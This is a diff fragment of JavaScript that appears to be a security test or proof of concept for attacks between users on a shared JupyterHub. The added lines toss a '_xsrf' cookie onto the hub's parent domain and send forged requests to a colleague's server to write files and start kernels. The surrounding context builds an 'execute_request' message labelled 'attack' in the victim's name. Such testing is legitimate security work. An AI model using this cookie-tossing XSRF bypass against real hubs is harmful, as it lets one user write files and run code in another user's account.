@@ -57,6 +57,15 @@
     body: JSON.stringify({ type: "file", ext: ".txt" }) }).then(() => "sent"));
   await attempt("start a kernel in the colleague's server", () => read(`${victimServer}/api/kernels`, {
     method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" }).then(() => "sent"));
+  await attempt("write a file with a tossed _xsrf cookie", () => {
+    const hubDomain = new URL(hub).hostname;  // a parent of every member's host: its cookies reach them all
+    document.cookie = `_xsrf=tossed; domain=${hubDomain}; path=/`;
+    return read(`${victimServer}/api/contents?_xsrf=tossed`, {
+      method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" },
+      body: JSON.stringify({ type: "file", ext: ".txt" }) }).then(() => "sent");
+  });
+  await attempt("start a kernel with a tossed _xsrf cookie", () => read(`${victimServer}/api/kernels?_xsrf=tossed`, {
+    method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body: "{}" }).then(() => "sent"));
   const execute = { header: { msg_id: "attack", msg_type: "execute_request", username: victim, session: "attack",
                               version: "5.3" },
                     parent_header: {}, metadata: {}, channel: "shell",
